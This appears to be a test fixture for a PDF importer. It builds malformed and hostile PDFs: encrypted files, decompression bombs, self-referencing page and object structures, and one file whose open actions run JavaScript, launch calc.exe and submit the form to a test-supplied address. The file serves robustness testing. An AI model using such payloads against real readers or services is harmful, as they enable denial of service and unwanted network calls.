import { FONT, pageOf, rawPdf, stream } from '#lib/documents/testing/raw-pdf.ts'
import { assemble } from '#lib/documents/testing/write-pdf.ts'
import { formLines, pdfForm } from './form.ts'
import { type Hostile, imported, refused } from './hostile.ts'

const BAD = [
  'damaged',
  'scan-without-text',
  'not-a-form',
  'timed-out',
  'out-of-memory',
  'too-large',
] as const
const MEGABYTE = 1_000_000
const PAGE = '/Type /Page /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >>'

/** A form as pages with something wrong in what ties them together. */
function pages(cycle: string, tree: string, page = `<< ${PAGE} /Parent 2 0 R /Contents 4 0 R >>`) {
  const content = stream(pageOf(formLines(cycle)))
  return rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', tree, page, content, FONT])
}

const locked = `/ID [<00><00>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <${'5a'.repeat(32)}> /U <${'c3'.repeat(32)}> >>`

export function pdfs(address: string): Hostile[] {
  return [
    {
      what: 'a PDF with a password',
      filename: 'locked.pdf',
      bytes: (cycle) => pdfForm(cycle, { trailer: locked }),
      expected: refused('password-protected'),
    },
    {
      what: 'a scan: a picture and no word',
      filename: 'scan.pdf',
      bytes: () => assemble(['q 612 0 0 792 0 0 cm /Im0 Do Q', 'q 612 0 0 792 0 0 cm /Im1 Do Q']),
      expected: refused('scan-without-text'),
    },
    {
      what: 'half a PDF',
      filename: 'half.pdf',
      bytes: (cycle) => pdfForm(cycle).slice(0, 200),
      expected: refused('damaged'),
    },
    {
      what: 'a table of objects that points nowhere',
      filename: 'xref.pdf',
      bytes: (cycle) => {
        const form = Buffer.from(pdfForm(cycle)).toString('latin1')
        return new Uint8Array(Buffer.from(form.replace(/^\d{10}/gm, '9999999999'), 'latin1'))
      },
      expected: imported(),
    },
    {
      what: 'a table of objects that is not there',
      filename: 'no-xref.pdf',
      bytes: (cycle) => {
        const form = Buffer.from(pdfForm(cycle)).toString('latin1')
        return new Uint8Array(Buffer.from(form.replace(/xref[\s\S]*?trailer/, 'trailer'), 'latin1'))
      },
      expected: imported(),
    },
    {
      what: 'a table of objects whose earlier one is itself',
      filename: 'prev.pdf',
      bytes: (cycle) => {
        const form = pdfForm(cycle)
        const start = Buffer.from(form).lastIndexOf('xref\n0')
        return pdfForm(cycle, { trailer: `/Prev ${start}` })
      },
      expected: imported(),
    },
    {
      what: 'scripts, a launch and a form that sends itself, on opening',
      filename: 'actions.pdf',
      bytes: (cycle) =>
        pdfForm(cycle, {
          catalogue: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${address}/js"\\)) >> /AA << /WC << /S /Launch /F (calc.exe) >> >> /AcroForm << /XFA (x) >>`,
          page: `/AA << /O << /S /URI /URI (${address}/open) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (${address}/form) >> >>]`,
        }),
      expected: imported(),
    },
    {
      what: 'a stream that stands in a file of another machine',
      filename: 'external.pdf',
      bytes: (cycle) =>
        pdfForm(cycle, { more: [`<< /Length 0 /F << /FS /URL /F (${address}/stream) >> >>`] }),
      expected: imported(),
    },
    {
      what: 'pages that are their own parents',
      filename: 'loop.pdf',
      bytes: (cycle) =>
        pages(cycle, '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>'),
      expected: refused([...BAD]),
    },
    {
      what: 'a page that says it is a billion',
      filename: 'count.pdf',
      bytes: (cycle) => pages(cycle, '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>'),
      expected: imported(),
    },
    {
      what: 'minus one page',
      filename: 'negative.pdf',
      bytes: (cycle) => pages(cycle, '<< /Type /Pages /Kids [3 0 R] /Count -1 >>'),
      expected: refused([...BAD]),
    },
    {
      what: 'three hundred pages',
      filename: 'pages.pdf',
      bytes: () => assemble(Array.from({ length: 300 }, () => 'BT /F1 9 Tf (a) Tj ET')),
      expected: refused('too-large'),
    },
    {
      what: 'a content that unpacks to 1.2 GB',
      isHeavy: true,
      filename: 'bomb.pdf',
      bytes: () =>
        rawPdf([
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          `<< ${PAGE} /Parent 2 0 R /Contents 4 0 R >>`,
          stream(Buffer.alloc(1200 * MEGABYTE, 0x20), { times: 1 }),
          FONT,
        ]),
      expected: refused([...BAD]),
    },
    {
      what: 'a content packed five times over',
      isHeavy: true,
      filename: 'matryoshka.pdf',
      bytes: () =>
        rawPdf([
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          `<< ${PAGE} /Parent 2 0 R /Contents 4 0 R >>`,
          stream(Buffer.alloc(400 * MEGABYTE, 0x20), { times: 5 }),
          FONT,
        ]),
      expected: refused([...BAD]),
    },
    {
      what: 'a stream whose length is the stream itself',
      filename: 'length.pdf',
      bytes: (cycle) => {
        const form = Buffer.from(pdfForm(cycle)).toString('latin1')
        return new Uint8Array(Buffer.from(form.replace(/\/Length \d+/, '/Length 4 0 R'), 'latin1'))
      },
      expected: imported(),
    },
    {
      what: 'an object stream that holds itself',
      filename: 'objstm.pdf',
      bytes: (cycle) =>
        pdfForm(cycle, {
          more: [
            stream('6 0 7 10 << >> << >>', {
              dictionary: '/Type /ObjStm /N 2 /First 9 /Extends 6 0 R',
            }),
          ],
        }),
      expected: imported(),
    },
    {
      what: 'a drawing that draws itself',
      filename: 'form-loop.pdf',
      bytes: (cycle) =>
        pdfForm(cycle, {
          content: '/X Do',
          resources: '/XObject << /X 6 0 R >>',
          more: [
            stream('/X Do /X Do', {
              dictionary:
                '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>',
            }),
          ],
        }),
      expected: imported(),
    },
    {
      what: 'a font whose letters are drawn with itself',
      filename: 'type3.pdf',
      bytes: () =>
        rawPdf([
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          `<< ${PAGE} /Parent 2 0 R /Contents 4 0 R >>`,
          stream('BT /F1 9 Tf (aaaa) Tj ET'),
          '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [1] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F1 5 0 R >> >> >>',
          stream('BT /F1 9 Tf (aaaa) Tj ET'),
        ]),
      expected: refused([...BAD]),
    },
    {
      what: 'a million words on one page',
      isHeavy: true,
      filename: 'words.pdf',
      bytes: () => assemble([`BT /F1 1 Tf ${'1 0 0 1 9 9 Tm (a) Tj '.repeat(800_000)} ET`]),
      expected: refused(['timed-out', 'out-of-memory', 'too-large']),
    },
    {
      what: 'a hundred thousand arrays inside one another',
      filename: 'arrays.pdf',
      bytes: (cycle) => pdfForm(cycle, { catalogue: `/Deep ${'['.repeat(100_000)}` }),
      expected: refused([...BAD]),
    },
    {
      what: 'a PDF under the name of a Word file',
      filename: 'form.docx',
      bytes: (cycle) => pdfForm(cycle),
      expected: refused('wrong-kind'),
    },
    {
      what: 'a good PDF after a page of rubbish, as a check on all these',
      filename: 'good.pdf',
      bytes: (cycle) =>
        new Uint8Array(Buffer.concat([Buffer.from('\u0001rubbish\n'.repeat(20)), pdfForm(cycle)])),
      expected: imported(),
      said: 'Opened a counter in every town.',
    },
  ]
}
